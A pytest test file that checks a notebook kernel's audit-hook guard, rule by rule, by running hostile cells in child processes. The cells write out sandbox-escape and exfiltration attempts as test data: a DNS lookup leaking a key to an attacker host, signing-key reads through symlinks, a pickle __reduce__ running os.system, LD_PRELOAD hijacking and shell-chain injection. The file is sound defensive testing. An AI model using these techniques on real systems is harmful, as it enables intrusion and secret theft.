"""The runtime guard, rule by rule, in child processes.

An audit hook cannot be removed, so the guard is never installed in the
pytest process: each test runs a small program (``python -c``) that builds
``decide`` from the seeded Cedar policies, installs the guard, and runs
"cells" -- source compiled with a cell file name and executed on the main
thread, which is how IPython runs a cell.  The program prints one JSON line
with what each cell did and which blocks the guard recorded for it.

Every rule is checked both ways: refused where it should be, allowed inside
the workspace.
"""

from __future__ import annotations

import collections
import json
import marshal
import pickle
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest

TIMEOUT = 60
KEY = "SIGNING-KEY-NEVER-SHOWN"

# The program every test starts from.  The driver (this code) is not user code:
# it was compiled before the guard was installed.  Cells are.
PRELUDE = r'''
import json, os, sys, threading
from pathlib import Path

WS, OUTSIDE = Path(sys.argv[1]), Path(sys.argv[2])
os.chdir(WS)

from grace_kernel._resources import seeded_policy_dir
from grace_kernel.governance import Action, ActionKind, PolicyEngine, Principal, facts_for
from grace_kernel.kernel._guard import GuardConfig, Verdict, install_guard

ENGINE = PolicyEngine(seeded_dir=seeded_policy_dir())


def decide(kind, resource):
    action = Action(kind=ActionKind(kind), principal=Principal.kernel("k", on_behalf_of="me"),
                    resource=resource, facts=facts_for(kind, resource, workspace=WS))
    d = ENGINE.decide(action)
    pid = d.policy_ids[0] if d.policy_ids else "default-deny"
    return Verdict(d.allowed, pid, "; ".join(d.reasons) or d.effect.value)


def scan(source):
    if "FORBIDDEN" in source:
        return Verdict(False, "test-scan", "the test scanner refuses FORBIDDEN")
    return Verdict(True, "test-scan", "clean")


BLOCKS, RESULTS, SHARED = [], {}, {}


def cell(name, source):
    """Run ``source`` as user code, the way IPython runs a cell, and record the outcome."""
    ns = {"WS": WS, "OUTSIDE": OUTSIDE, "handle": HANDLE, "SHARED": SHARED}
    try:
        exec(compile(source, f"<cell-{name}>", "exec"), ns)
    except PermissionError as exc:
        RESULTS[name] = {"ok": False, "error": str(exc)}
    except Exception as exc:
        RESULTS[name] = {"ok": False, "error": f"{type(exc).__name__}: {exc}", "other": True}
    else:
        RESULTS[name] = {"ok": True, "result": ns.get("result")}
    RESULTS[name]["blocks"] = [b.to_json() for b in BLOCKS]
    BLOCKS.clear()


def note(name, **values):
    RESULTS[name] = values
'''

INSTALL = """
HANDLE = install_guard(GuardConfig(
    WS, WS / ".grace", decide=decide, scan_dynamic=scan, on_block=BLOCKS.append))
"""


@pytest.fixture
def dirs(tmp_path: Path) -> tuple[Path, Path]:
    """A workspace with a .grace/ holding a key, and a directory outside it."""
    ws = tmp_path / "ws"
    (ws / ".grace" / "keys").mkdir(parents=True)
    (ws / ".grace" / "keys" / "signing.key").write_text(KEY)
    (ws / "data.csv").write_text("a,b\n1,2\n")
    (ws / "link_to_grace").symlink_to(ws / ".grace")
    (ws / "local.pkl").write_bytes(pickle.dumps(collections.OrderedDict(b=2)))
    outside = tmp_path / "outside"
    (outside / "tree").mkdir(parents=True)
    (outside / "victim.txt").write_text("original")
    (outside / "tree" / "a.txt").write_text("a")
    (outside / "foreign.pkl").write_bytes(pickle.dumps(collections.OrderedDict(a=1)))
    (outside / "foreign.marshal").write_bytes(marshal.dumps((1, 2, 3)))
    return ws, outside


def snapshot(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


def run_program(
    dirs: tuple[Path, Path], body: str, *, setup: str = "", install: str = INSTALL
) -> dict[str, dict[str, Any]]:
    """Run the prelude, ``setup``, ``install`` and ``body`` in a fresh interpreter.

    Returns the results the program printed (``cell`` and ``note`` fill them in).
    """
    ws, outside = dirs
    program = "\n".join(
        [
            PRELUDE,
            textwrap.dedent(setup),
            textwrap.dedent(install),
            textwrap.dedent(body),
            "print(json.dumps(RESULTS, default=str))",
        ]
    )
    done = subprocess.run(
        [sys.executable, "-c", program, str(ws), str(outside)],
        capture_output=True,
        text=True,
        timeout=TIMEOUT,
        cwd=ws,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-4000:]
    assert KEY not in done.stdout
    results: dict[str, dict[str, Any]] = json.loads(done.stdout.strip().splitlines()[-1])
    return results


def assert_blocked(
    results: dict[str, dict[str, Any]],
    name: str,
    policies: str | set[str],
    event: str | None = None,
) -> None:
    result = results[name]
    wanted = {policies} if isinstance(policies, str) else policies
    assert result["ok"] is False, result
    assert "[grace guard]" in result["error"], result
    assert any(
        b["policy_id"] in wanted and (event is None or b["event"] == event)
        for b in result["blocks"]
    ), result


def assert_allowed(results: dict[str, dict[str, Any]], name: str) -> Any:
    result = results[name]
    assert result["ok"] is True, result
    assert result["blocks"] == [], result
    return result["result"]


def test_writes_and_deletes_outside_the_workspace_are_refused(dirs: tuple[Path, Path]) -> None:
    _, outside = dirs
    before = snapshot(outside)
    results = run_program(
        dirs,
        r"""
        cell("write_inside", "from pathlib import Path\n"
             "Path('notes.txt').write_text('hi'); result = Path('notes.txt').read_text()")
        cell("rmtree_inside", "import os, shutil\nos.makedirs('scratch/a')\n"
             "open('scratch/a/f', 'w').close()\nshutil.rmtree('scratch')\n"
             "result = os.path.exists('scratch')")
        cell("read_outside", "result = open(OUTSIDE / 'victim.txt').read()")
        cell("write_outside", "open(OUTSIDE / 'new.txt', 'w')")
        cell("pathlib_outside", "(OUTSIDE / 'p.txt').write_text('x')")
        cell("append_outside", "open(OUTSIDE / 'victim.txt', 'a').write('pwned')")
        cell("os_open_outside", "import os\n"
             "os.open(str(OUTSIDE / 'o.txt'), os.O_WRONLY | os.O_CREAT)")
        cell("dir_fd_escape", "import os\nfd = os.open(str(OUTSIDE), os.O_RDONLY)\n"
             "os.open('d.txt', os.O_WRONLY | os.O_CREAT, dir_fd=fd)")
        cell("remove_outside", "import os\nos.remove(OUTSIDE / 'victim.txt')")
        cell("rename_in", "import os\nos.rename(OUTSIDE / 'victim.txt', 'stolen.txt')")
        cell("rmtree_outside", "import shutil\nshutil.rmtree(OUTSIDE / 'tree')")
        cell("copy_outside", "import shutil\nshutil.copyfile('data.csv', OUTSIDE / 'c.csv')")
        cell("chmod_outside", "import os\nos.chmod(OUTSIDE / 'victim.txt', 0o777)")
        cell("mkdir_outside", "import os\nos.mkdir(OUTSIDE / 'newdir')")
        cell("hardlink_outside", "import os\nos.link(OUTSIDE / 'victim.txt', 'hl.txt')")
        cell("through_symlink", "import os\nos.symlink(OUTSIDE, 'out_link')\n"
             "open('out_link/evil.txt', 'w')")
        cell("python_install", "import sys\nopen(sys.prefix + '/evil.pth', 'w')")
        cell("git_hooks", "import os\nos.makedirs('.git/hooks')")
        """,
    )
    assert assert_allowed(results, "write_inside") == "hi"
    assert assert_allowed(results, "rmtree_inside") is False
    assert assert_allowed(results, "read_outside") == "original"
    outside_policies = {"files-write-outside-deny", "guard-outside-workspace"}
    for name, event in [
        ("write_outside", "open"),
        ("pathlib_outside", "open"),
        ("append_outside", "open"),
        ("os_open_outside", "open"),
        ("dir_fd_escape", "open"),
        ("remove_outside", "os.remove"),
        ("rename_in", "os.rename"),
        ("rmtree_outside", "shutil.rmtree"),
        ("copy_outside", "shutil.copyfile"),
        ("chmod_outside", "os.chmod"),
        ("mkdir_outside", "os.mkdir"),
        ("hardlink_outside", "os.link"),
        ("through_symlink", "open"),
    ]:
        assert_blocked(results, name, outside_policies, event)
    assert_blocked(results, "python_install", "guard-python-install", "open")
    assert_blocked(results, "git_hooks", "guard-git-dir", "os.mkdir")
    assert snapshot(outside) == before


def test_grace_keys_are_unreadable_and_grace_dir_unwritable(dirs: tuple[Path, Path]) -> None:
    ws, _ = dirs
    results = run_program(
        dirs,
        r"""
        cell("read_key", "result = open('.grace/keys/signing.key').read()")
        cell("read_dotdot", "import os\nos.mkdir('sub')\n"
             "result = open('sub/../.grace/keys/signing.key').read()")
        cell("read_premade_link", "result = open('link_to_grace/keys/signing.key').read()")
        cell("dir_fd_into_keys", "import os\nfd = os.open('.grace', os.O_RDONLY)\n"
             "os.open('keys/signing.key', os.O_RDONLY, dir_fd=fd)")
        cell("sqlite_escaped_uri",
             "import sqlite3\nsqlite3.connect('file:.grace/%6beys/signing.key?mode=ro', uri=True)")
        cell("sqlite_two_modes",
             "import sqlite3\nsqlite3.connect('file:.grace/ledger.db?mode=ro&mode=rw', uri=True)")
        cell("link_to_grace", "import os\nos.symlink('.grace', 'k')")
        cell("relative_link", "import os\nos.symlink('../.grace/keys', 'sub/k2')")
        cell("dir_fd_after_chdir", "import os\nfd = os.open('.', os.O_RDONLY)\n"
             "os.chdir('sub')\ntry:\n"
             "    os.open('.grace/keys/signing.key', os.O_RDONLY, dir_fd=fd)\n"
             "finally:\n    os.chdir('..')")
        cell("write_policy", "open('.grace/policies.cedar', 'w').write('permit(p, a, r);')")
        cell("delete_key", "import os\nos.remove('.grace/keys/signing.key')")
        cell("rename_grace", "import os\nos.rename('.grace', 'g2')")
        cell("rmtree_workspace", "import shutil\nshutil.rmtree(WS)")
        cell("sqlite", "import sqlite3\nsqlite3.connect('.grace/ledger.db')")
        with HANDLE.trusted():
            note("trusted_read", value=open(".grace/keys/signing.key").read().startswith("SIGN"))
        """,
    )
    for name, event in [
        ("read_key", "open"),
        ("read_dotdot", "open"),
        ("read_premade_link", "open"),
        ("dir_fd_into_keys", "open"),
        ("sqlite_escaped_uri", "sqlite3.connect"),
        ("sqlite_two_modes", "sqlite3.connect"),
        ("link_to_grace", "os.symlink"),
        ("relative_link", "os.symlink"),
        ("dir_fd_after_chdir", "open"),
        ("write_policy", "open"),
        ("delete_key", "os.remove"),
        ("rename_grace", "os.rename"),
        ("rmtree_workspace", "shutil.rmtree"),
        ("sqlite", "sqlite3.connect"),
    ]:
        assert_blocked(results, name, "guard-grace-dir", event)
    assert results["trusted_read"] == {"value": True}
    assert (ws / ".grace" / "keys" / "signing.key").read_text() == KEY
    assert not (ws / "g2").exists()


def test_network_rules(dirs: tuple[Path, Path]) -> None:
    results = run_program(
        dirs,
        setup=r"""
        import socket
        LISTENER = socket.create_server(("127.0.0.1", 0))
        SHARED["port"] = LISTENER.getsockname()[1]
        UNIX = socket.socket(socket.AF_UNIX)
        UNIX.bind("app.sock")
        UNIX.listen()
        """,
        body=r"""
        cell("loopback", "import socket\n"
             "socket.create_connection(('127.0.0.1', SHARED['port']), timeout=5).close()")
        cell("localhost", "import socket\n"
             "socket.create_connection(('localhost', SHARED['port']), timeout=5).close()")
        cell("unix_inside", "import socket\ns = socket.socket(socket.AF_UNIX)\n"
             "s.connect('app.sock'); s.close()")
        cell("private_address", "import socket\ns = socket.socket(); s.settimeout(2)\n"
             "s.connect(('10.255.255.1', 80))")
        cell("unknown_name", "import socket\nsocket.getaddrinfo('nonexistent.invalid', 80)")
        cell("dns_exfiltration", "import socket\nsocket.gethostbyname('key-1234.attacker.example')")
        cell("udp", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
             "s.sendto(b'x', ('8.8.8.8', 53))")
        cell("unix_outside", "import socket\ns = socket.socket(socket.AF_UNIX)\n"
             "s.connect(str(OUTSIDE / 'x.sock'))")
        cell("abstract_unix", "import socket\ns = socket.socket(socket.AF_UNIX)\n"
             "s.connect('\\0abstract')")
        """,
    )
    for name in ("loopback", "localhost", "unix_inside"):
        assert_allowed(results, name)
    assert_blocked(results, "private_address", "net-approval", "socket.connect")
    assert_blocked(results, "unknown_name", "net-approval", "socket.getaddrinfo")
    assert_blocked(results, "dns_exfiltration", "net-approval", "socket.gethostbyname")
    assert_blocked(results, "udp", "net-approval", "socket.sendto")
    assert_blocked(results, "unix_outside", "guard-network", "socket.connect")
    assert_blocked(results, "abstract_unix", "guard-network", "socket.connect")


def test_process_rules(dirs: tuple[Path, Path]) -> None:
    ws, outside = dirs
    fake = ws / "bin" / "ls"
    fake.parent.mkdir()
    fake.write_text(f"#!/bin/sh\ntouch {outside}/fake-ls-ran\n")
    fake.chmod(0o755)
    results = run_program(
        dirs,
        r"""
        spawn_args = (
            "import _posixsubprocess, os\nr, w = os.pipe()\n"
            "_posixsubprocess.fork_exec([b'/bin/touch', str(OUTSIDE / 'm-fe').encode()], "
            "[b'/bin/touch'], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w, "
            "False, False, -1, None, None, None, -1, None, False)"
        )
        cell("run_ls", "import subprocess\n"
             "result = subprocess.run(['ls'], capture_output=True).returncode")
        cell("run_shell_ls", "import subprocess\n"
             "result = subprocess.run('ls', shell=True, capture_output=True).returncode")
        cell("system_pwd", "import os\nresult = os.system('pwd > /dev/null 2>&1') is None")
        cell("system_allowed", "import os\nresult = os.system('pwd')")
        cell("system_touch", "import os\nos.system(f'touch {OUTSIDE}/m-system')")
        cell("run_curl", "import subprocess\nsubprocess.run(['curl', 'http://example.com'])")
        cell("shell_chain", "import subprocess\n"
             "subprocess.run(f'ls; touch {OUTSIDE}/m-chain', shell=True)")
        cell("executable_swap", "import subprocess\n"
             "subprocess.run(['ls', '-c', f'touch {OUTSIDE}/m-swap'], executable='/bin/sh')")
        cell("ld_preload", "import os, subprocess\n"
             "subprocess.run(['ls'], env={**os.environ, 'LD_PRELOAD': str(WS / 'evil.so')})")
        cell("putenv", "import os\nos.environ['LD_PRELOAD'] = str(WS / 'evil.so')")
        cell("path_env", "import os, subprocess\n"
             "subprocess.run(['ls'], env={'PATH': str(WS / 'bin')})")
        cell("path_putenv", "import os\nos.environ['PATH'] = str(WS / 'bin') + ':/usr/bin'")
        cell("program_in_workspace", "import subprocess\nsubprocess.run([str(WS / 'bin' / 'ls')])")
        cell("fork_exec", spawn_args)
        cell("fork_exec_reload", "import importlib.machinery, importlib.util\n"
             "spec = importlib.machinery.PathFinder.find_spec('_posixsubprocess')\n"
             "importlib.util.module_from_spec(spec)")
        cell("fork", "import os\nos.fork()")
        cell("posix_spawn", "import os\n"
             "os.posix_spawn('/bin/touch', ['touch', f'{OUTSIDE}/m-spawn'], os.environ)")
        cell("execv", "import os\nos.execv('/bin/touch', ['touch', f'{OUTSIDE}/m-exec'])")
        cell("pty_spawn", "import pty\npty.spawn(['touch', f'{OUTSIDE}/m-pty'])")
        """,
    )
    assert assert_allowed(results, "run_ls") == 0
    assert assert_allowed(results, "run_shell_ls") == 0
    assert_blocked(results, "system_pwd", "shell-approval", "os.system")  # a redirection
    assert assert_allowed(results, "system_allowed") == 0
    for name, event in [
        ("system_touch", "os.system"),
        ("run_curl", "subprocess.Popen"),
        ("shell_chain", "subprocess.Popen"),
        ("executable_swap", "subprocess.Popen"),
        ("posix_spawn", "os.posix_spawn"),
        ("execv", "os.exec"),
        ("pty_spawn", "pty.spawn"),
    ]:
        assert_blocked(results, name, "shell-approval", event)
    assert_blocked(results, "ld_preload", "guard-exec-env", "subprocess.Popen")
    assert_blocked(results, "putenv", "guard-exec-env", "os.putenv")
    assert_blocked(results, "path_env", "guard-exec-env", "subprocess.Popen")
    assert_blocked(results, "path_putenv", "guard-exec-env", "os.putenv")
    assert_blocked(results, "program_in_workspace", "guard-exec-writable", "subprocess.Popen")
    assert_blocked(results, "fork_exec", "guard-fork-exec", "_posixsubprocess.fork_exec")
    assert_blocked(results, "fork_exec_reload", "guard-tamper", "import")
    assert_blocked(results, "fork", "guard-fork", "os.fork")
    assert sorted(p.name for p in outside.iterdir()) == [
        "foreign.marshal",
        "foreign.pkl",
        "tree",
        "victim.txt",
    ]


def test_native_code_and_tampering(dirs: tuple[Path, Path]) -> None:
    ws, _ = dirs
    (ws / "evil.cpython-311-x86_64-linux-gnu.so").write_bytes(b"\x7fELF not really")
    results = run_program(
        dirs,
        r"""
        import importlib.util
        SHARED["cffi"] = importlib.util.find_spec("_cffi_backend") is not None
        note("has", cffi=SHARED["cffi"])
        cell("ctypes_cdll", "import ctypes\nctypes.CDLL(None).system(b'true')")
        cell("ctypes_pythonapi", "import ctypes\nctypes.pythonapi.Py_GetVersion")
        cell("ctypes_string_at", "import ctypes\nctypes.string_at(id(1), 8)")
        cell("cffi", "import cffi\ncffi.FFI().dlopen(None)")
        cell("subinterpreters", "import _xxsubinterpreters")
        cell("subinterpreters_spec", "import importlib.machinery, importlib.util\n"
             "spec = importlib.machinery.PathFinder.find_spec('_xxsubinterpreters')\n"
             "importlib.util.module_from_spec(spec)")
        cell("gc_objects", "import gc\ngc.get_objects()")
        cell("gc_referrers", "import gc\ngc.get_referrers(handle)")
        cell("rewrite_code", "def f():\n    return 1\n"
             "def g():\n    return 2\nf.__code__ = g.__code__")
        cell("current_frames", "import sys\nsys._current_frames()")
        cell("extension_in_workspace", "import evil")
        cell("numpy_pandas", "import importlib.util\n"
             "if importlib.util.find_spec('pandas'):\n"
             "    import numpy, pandas\n"
             "    result = int(pandas.DataFrame({'a': numpy.arange(4)}).a.sum())\n"
             "else:\n    result = 6")
        """,
    )
    assert_blocked(results, "ctypes_cdll", "guard-ctypes", "ctypes.dlopen")
    assert_blocked(results, "ctypes_pythonapi", "guard-ctypes", "ctypes.dlsym")
    assert_blocked(results, "ctypes_string_at", "guard-ctypes")
    if results["has"]["cffi"]:
        assert_blocked(results, "cffi", "guard-ctypes", "_cffi_backend.load_library")
    assert_blocked(results, "subinterpreters", "guard-tamper", "import")
    assert_blocked(results, "subinterpreters_spec", "guard-tamper", "import")
    assert_blocked(results, "gc_objects", "guard-tamper", "gc.get_objects")
    assert_blocked(results, "gc_referrers", "guard-tamper", "gc.get_referrers")
    assert_blocked(results, "rewrite_code", "guard-tamper", "object.__setattr__")
    assert_blocked(results, "current_frames", "guard-tamper", "sys._current_frames")
    assert_blocked(results, "extension_in_workspace", "guard-native", "import")
    assert assert_allowed(results, "numpy_pandas") == 6


def test_pickle_and_marshal(dirs: tuple[Path, Path]) -> None:
    _, outside = dirs
    results = run_program(
        dirs,
        r"""
        cell("benign_pickle", "import pickle, collections\n"
             "result = dict(pickle.loads(pickle.dumps(collections.OrderedDict(a=1))))")
        cell("local_pickle", "import pickle\nresult = dict(pickle.load(open('local.pkl', 'rb')))")
        cell("reduce_system", "import os, pickle\nclass E:\n"
             "    def __reduce__(self):\n"
             "        return (os.system, (f'touch {OUTSIDE}/m-pickle',))\n"
             "pickle.loads(pickle.dumps(E()))")
        cell("dotted_global", "import pickle\n"
             "pickle.loads(b'cpathlib\\nos.system\\n(S\\'true\\'\\ntR.')")
        cell("foreign_pickle", "import pickle\npickle.load(open(OUTSIDE / 'foreign.pkl', 'rb'))")
        cell("foreign_marshal", "import marshal\n"
             "marshal.load(open(OUTSIDE / 'foreign.marshal', 'rb'))")
        cell("after_new_cell", "import pickle\nresult = dict(pickle.load(open('local.pkl', 'rb')))")
        cell("marshal_code", "import marshal\n"
             "marshal.loads(marshal.dumps(compile('1', 'x', 'eval')))")
        cell("marshal_data", "import marshal\nresult = marshal.loads(marshal.dumps([1, 2]))")
        """,
    )
    assert assert_allowed(results, "benign_pickle") == {"a": 1}
    assert assert_allowed(results, "local_pickle") == {"b": 2}
    assert_blocked(results, "reduce_system", "guard-pickle-global", "pickle.find_class")
    assert_blocked(results, "dotted_global", "guard-pickle-global", "pickle.find_class")
    assert_blocked(results, "foreign_pickle", "guard-foreign-pickle", "pickle.find_class")
    assert_blocked(results, "foreign_marshal", "guard-foreign-pickle", "marshal.load")
    assert assert_allowed(results, "after_new_cell") == {"b": 2}  # the taint lasts a cell
    assert_blocked(results, "marshal_code", "guard-dynamic-code", "marshal.loads")
    assert assert_allowed(results, "marshal_data") == [1, 2]
    assert not (outside / "m-pickle").exists()


def test_dynamic_code_is_scanned(dirs: tuple[Path, Path]) -> None:
    results = run_program(
        dirs,
        r"""
        import base64
        SHARED["payload"] = base64.b64encode(b"x = 'FORBIDDEN'").decode()
        cell("b64_exec", "import base64\nexec(base64.b64decode(SHARED['payload']))")
        cell("b64_eval", "import base64\n"
             "eval(compile(base64.b64decode(SHARED['payload']), 'p', 'exec'))")
        cell("ast_parse", "import ast, base64\nast.parse(base64.b64decode(SHARED['payload']))")
        cell("interpreter", "import base64, code\n"
             "code.InteractiveInterpreter().runsource(base64.b64decode(SHARED['payload']).decode())")
        cell("clean_exec", "exec('result = 6 * 7')")
        cell("own_code", "source = \"y = 'FORBIDDEN'\"\nexec(source)\nresult = y")
        cell("namedtuple", "import collections, dataclasses\n"
             "P = collections.namedtuple('P', 'x y')\n"
             "@dataclasses.dataclass\nclass D:\n    a: int\n"
             "result = [P(1, 2).y, D(3).a]")
        """,
    )
    for name in ("b64_exec", "b64_eval", "ast_parse", "interpreter"):
        assert_blocked(results, name, "test-scan", "compile")
    assert assert_allowed(results, "clean_exec") == 42
    assert assert_allowed(results, "own_code") == "FORBIDDEN"
    assert assert_allowed(results, "namedtuple") == [2, 3]


def test_threads_callbacks_and_infrastructure_threads(dirs: tuple[Path, Path]) -> None:
    _, outside = dirs
    results = run_program(
        dirs,
        setup=r"""
        import asyncio
        # Started before install, like Jupyter's iopub, heartbeat and control threads.
        GO, DONE = threading.Event(), threading.Event()
        def infra():
            GO.wait()
            out = {}
            with open(OUTSIDE / "infra.txt", "w") as f:
                f.write("jupyter's own I/O")
            out["wrote_outside"] = True
            try:
                open(".grace/keys/signing.key").read()
                out["read_key"] = True
            except PermissionError:
                out["read_key"] = False
            RESULTS["infra"] = out
            DONE.set()
        threading.Thread(target=infra, name="Infra", daemon=True).start()
        LOOP = asyncio.new_event_loop()
        SHARED["loop"] = LOOP
        """,
        body=r"""
        GO.set()
        DONE.wait(10)
        BLOCKS.clear()
        cell("user_thread", "import os, threading\nerrors = []\n"
             "def work():\n"
             "    try:\n        os.system(f'touch {OUTSIDE}/m-thread')\n"
             "    except PermissionError as exc:\n        errors.append(str(exc))\n"
             "t = threading.Thread(target=work, name='UserThread'); t.start(); t.join()\n"
             "result = errors")
        cell("executor", "import concurrent.futures, os\n"
             "with concurrent.futures.ThreadPoolExecutor(1) as pool:\n"
             "    result = repr(pool.submit(os.system, f'touch {OUTSIDE}/m-pool').exception())")
        cell("callback", "import functools, os\n"
             "SHARED['loop'].call_soon(functools.partial(os.system, f'touch {OUTSIDE}/m-loop'))")
        errors = []
        LOOP.set_exception_handler(lambda loop, context: errors.append(repr(context["exception"])))
        LOOP.run_until_complete(asyncio.sleep(0.05))
        note("callback_ran", errors=errors, blocks=[b.to_json() for b in BLOCKS])
        BLOCKS.clear()
        def later():
            try:
                os.system(f"touch {OUTSIDE}/m-later")
            except PermissionError:
                RESULTS["later_thread"] = {"blocked": True}
        t = threading.Thread(target=later)
        t.start()
        t.join()
        """,
    )
    assert results["infra"] == {"wrote_outside": True, "read_key": False}
    user_thread = results["user_thread"]
    assert user_thread["ok"]
    assert "[grace guard]" in user_thread["result"][0]
    assert {(b["event"], b["thread"]) for b in user_thread["blocks"]} == {
        ("os.system", "UserThread")
    }
    assert "PermissionError" in results["executor"]["result"]
    assert assert_allowed(results, "callback") is None  # the callback runs after the cell
    ran = results["callback_ran"]
    assert "PermissionError" in ran["errors"][0]
    assert [(b["event"], b["policy_id"]) for b in ran["blocks"]] == [
        ("os.system", "shell-approval")
    ]
    assert results["later_thread"] == {"blocked": True}
    assert [p.name for p in outside.iterdir() if p.name.startswith("m-")] == []


def test_trusted_sections_and_the_handle(dirs: tuple[Path, Path]) -> None:
    results = run_program(
        dirs,
        r"""
        import contextlib
        cell("trusted_from_cell", "handle.trusted()")
        cell("with_from_cell", "with handle.trusted():\n    pass")
        SHARED["cm"] = HANDLE.trusted()
        cell("enter_handed_section", "import contextlib\n"
             "contextlib.ExitStack().enter_context(SHARED['cm'])")
        try:
            contextlib.ExitStack().enter_context(HANDLE.trusted())
            note("library_entry", refused=False)
        except PermissionError:
            note("library_entry", refused=True)
        cell("obligations_from_cell", "handle.set_obligations(frozenset())")
        cell("drain_from_cell", "handle.drain_blocks()")
        cell("in_user_code", "result = handle.in_user_code()")
        note("in_user_code_driver", value=HANDLE.in_user_code())

        def wrapper():
            return HANDLE.trusted()  # Grace's own code may hand the section up to its caller

        with wrapper():
            key = open(".grace/keys/signing.key").read()
            status = os.system("true")
        note("trusted", key=len(key), status=status)

        # A trace function is user code: inside a trusted section it stays guarded.
        cell("tracer", "import os, sys\n"
             "def tracer(frame, event, arg):\n"
             "    os.system(f'touch {OUTSIDE}/m-trace')\n"
             "SHARED['tracer'] = tracer")
        def helper():
            return 1
        with HANDLE.trusted():
            sys.settrace(SHARED["tracer"])
            try:
                helper()
                note("traced", blocked=False)
            except PermissionError:
                note("traced", blocked=True)
            finally:
                sys.settrace(None)
        BLOCKS.clear()

        HANDLE.set_obligations(frozenset({"read_only"}))
        cell("read_only_write", "open('ro.txt', 'w')")
        cell("read_only_read", "result = open('data.csv').read()")
        HANDLE.set_obligations(frozenset())
        cell("writable_again", "open('rw.txt', 'w').close()")
        try:
            install_guard(GuardConfig(WS, WS / ".grace", decide=decide))
            note("second_install", raised=False)
        except RuntimeError:
            note("second_install", raised=True)
        """,
    )
    for name in (
        "trusted_from_cell",
        "with_from_cell",
        "enter_handed_section",
        "obligations_from_cell",
        "drain_from_cell",
    ):
        assert results[name]["ok"] is False
        assert "[grace guard]" in results[name]["error"]
    assert results["library_entry"] == {"refused": True}
    assert assert_allowed(results, "in_user_code") is True
    assert results["in_user_code_driver"] == {"value": False}
    assert results["trusted"] == {"key": len(KEY), "status": 0}
    assert results["traced"] == {"blocked": True}
    assert_blocked(results, "read_only_write", "mode-safe-cells-read-only", "open")
    assert assert_allowed(results, "read_only_read") == "a,b\n1,2\n"
    assert_allowed(results, "writable_again")
    assert results["second_install"] == {"raised": True}


def test_monkeypatching_does_not_change_the_guard(dirs: tuple[Path, Path]) -> None:
    _, outside = dirs
    results = run_program(
        dirs,
        # The driver restores threading afterwards: the interpreter needs it to exit.
        setup="SAVED = (threading.current_thread, threading.get_ident)",
        body=r"""
        cell("patch", "import os, posixpath, threading\n"
             "import grace_kernel.kernel._guard as g\n"
             "os.path.realpath = posixpath.realpath = lambda p, **k: str(WS / 'harmless')\n"
             "os.lstat = lambda *a, **k: os.stat(WS)\n"
             "threading.current_thread = lambda: None\n"
             "threading.get_ident = lambda: 0\n"
             "g.GuardBlock = g.Verdict = g._build = None")
        cell("write_outside", "open(OUTSIDE / 'after-patch.txt', 'w')")
        cell("read_through_link", "open('link_to_grace/keys/signing.key').read()")
        # A path object whose __fspath__ was replaced is refused where the guard would
        # have to convert it itself (shutil's events carry the caller's objects).
        cell("patch_pathlib", "import pathlib, shutil\n"
             "pathlib.PurePath.__fspath__ = lambda self: str(WS / 'harmless')\n"
             "shutil.copyfile('data.csv', pathlib.Path(OUTSIDE / 'p.txt'))")
        threading.current_thread, threading.get_ident = SAVED
        """,
    )
    # decide() itself resolves paths with the patched realpath and gets them wrong; whatever
    # it answers, the guard's own resolution still refuses the write.
    fooled = {"files-write-outside-deny", "files-grace-dir-service-only", "guard-outside-workspace"}
    assert_blocked(results, "write_outside", fooled, "open")
    assert_blocked(results, "read_through_link", "guard-grace-dir", "open")
    assert_blocked(results, "patch_pathlib", "guard-argument", "shutil.copyfile")
    assert not (outside / "after-patch.txt").exists()
    assert not (outside / "p.txt").exists()


def test_fail_closed_and_reentrancy(dirs: tuple[Path, Path]) -> None:
    _, outside = dirs
    results = run_program(
        dirs,
        setup=r"""
        MODE = {"decide": "normal"}
        def flaky_decide(kind, resource):
            if MODE["decide"] == "raise":
                raise RuntimeError("policy engine exploded")
            if MODE["decide"] == "spawn":
                os.system("true")
            # Re-entrant work the hook must let through: reading, importing, stat.
            with open(WS / "data.csv") as f:
                f.read()
            import colorsys
            os.path.exists(resource)
            return decide(kind, resource)
        def flaky_scan(source):
            raise ValueError("scanner crashed")
        def noisy_on_block(block):
            BLOCKS.append(block)
            # on_block runs restricted: it may write in the workspace (or .grace), but a
            # process or a write outside is refused (recorded, without notifying again).
            with open(WS / "on-block.log", "a") as f:
                f.write(block.event + "\n")
            if block.event == "os.system":
                open(OUTSIDE / "on-block.log", "w")
            raise RuntimeError("notifier broken")
        """,
        install=r"""
HANDLE = install_guard(GuardConfig(
    WS, WS / ".grace", decide=flaky_decide, scan_dynamic=flaky_scan, on_block=noisy_on_block))
""",
        body=r"""
cell("reentrant_ok", "open('inside.txt', 'w').write('x')")
cell("on_block_errors", "import os\nos.system('touch x')")
MODE["decide"] = "raise"
cell("decide_raises", "open('inside2.txt', 'w')")
MODE["decide"] = "spawn"
cell("decide_spawns", "open('inside3.txt', 'w')")
MODE["decide"] = "normal"
cell("scan_raises", "exec('1 ' + '+ 1')")
""",
    )
    assert_allowed(results, "reentrant_ok")
    assert_blocked(results, "on_block_errors", "shell-approval", "os.system")
    assert_blocked(results, "decide_raises", "guard-error", "open")
    spawned = results["decide_spawns"]
    assert_blocked(results, "decide_spawns", "guard-error", "open")
    assert [b["event"] for b in spawned["blocks"]] == ["os.system", "open"]
    assert_blocked(results, "scan_raises", "guard-error", "compile")
    ws, _ = dirs
    assert (ws / "on-block.log").read_text().count("\n") == 5
    assert not (outside / "on-block.log").exists()
    with_notifier = results["on_block_errors"]["blocks"]
    assert [(b["event"], b["policy_id"]) for b in with_notifier] == [
        ("os.system", "shell-approval")
    ]


def test_drain_blocks_reports_what_was_refused(dirs: tuple[Path, Path]) -> None:
    results = run_program(
        dirs,
        r"""
        import time
        start = time.time()
        cell("long", "import os\nos.system('echo ' + 'x' * 1000)")
        cell("key", "open('.grace/keys/signing.key')")
        drained = HANDLE.drain_blocks()
        note("drained", blocks=[b.to_json() for b in drained], start=start, end=time.time(),
             again=len(HANDLE.drain_blocks()))
        """,
    )
    drained = results["drained"]
    blocks = drained["blocks"]
    assert [(b["event"], b["policy_id"]) for b in blocks] == [
        ("os.system", "shell-approval"),
        ("open", "guard-grace-dir"),
    ]
    assert set(blocks[0]) == {"event", "target", "policy_id", "reason", "thread", "at"}
    assert len(blocks[0]["target"]) == 300
